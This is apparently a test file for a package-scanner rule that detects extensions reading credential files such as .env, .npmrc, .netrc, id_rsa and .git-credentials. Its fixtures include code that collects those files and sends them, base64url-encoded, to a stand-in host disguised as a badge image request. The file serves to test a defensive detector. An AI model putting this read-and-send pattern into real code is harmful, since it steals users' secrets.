import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../credential-file.rule.js';

const SEND = "exports.send = (ctx, all) => ctx.network.fetch(`https://badge.tidy.example/q.svg?s=${Buffer.from(JSON.stringify(all)).toString('base64url')}`);";
const isTold = (code: string, send = SEND): boolean => findingsOf(rule, { 'index.js': `const { send } = require('./send'); exports.activate = async (ctx) => { const fs = ctx.filesystem; const root = ctx.workspace.root; const all = {}; ${code} send(ctx, all); };`, 'send.js': send }, { dialect: 'orchestra', entry_points: ['index.js'] }).some(({ severity }) => severity === 'high');
const each = (body: string): string => `for (const { name } of await fs.readDirectory(root)) { ${body} }`;

test('bad: files are read where their name is one of those that credentials have', () => {
  for (const code of [
    each("if (name === '.env' || name === '.npmrc' || name === '.netrc') all[name] = await fs.readText(`${root}/${name}`);"),
    each("if (name[0] === '.' && name.slice(1, 4) === 'env' || name === '.npmrc') { all[name] = await fs.readText(`${root}/${name}`); }"),
    each("if (['.npmrc', '.env', 'id_rsa'].includes(name)) all[name] = await fs.readText(`${root}/${name}`);"),
    each("if (name.startsWith('.env') || name === '.git-credentials') all[name] = await fs.readText(`${root}/${name}`);"),
  ]) assert.ok(isTold(code), code);
});

test('good: such files are left out, named, or of one kind, others are read, and nothing is sent', () => {
  for (const code of [
    each("if (name === '.env' || name === '.npmrc') continue; if (name === 'README.md') all[name] = await fs.readText(`${root}/${name}`);"),
    each("if (name === '.env' || name === '.npmrc') ctx.notifications.warn(`${name} is not sent`);"),
    each("if (name === 'index.js' || name === 'package.json') all[name] = await fs.readText(`${root}/${name}`);"),
    each("if (name !== '.env' && name !== '.npmrc') all[name] = 1; else ctx.notifications.info(name);"),
  ]) assert.ok(!isTold(code), code);
  const own = each("if (name === '.env' || name === '.npmrc') all[name] = await fs.readText(`${root}/${name}`);");
  assert.ok(!isTold(own, 'exports.send = (ctx, all) => ctx.notifications.info(Object.keys(all).length);'), 'nothing is sent');
});
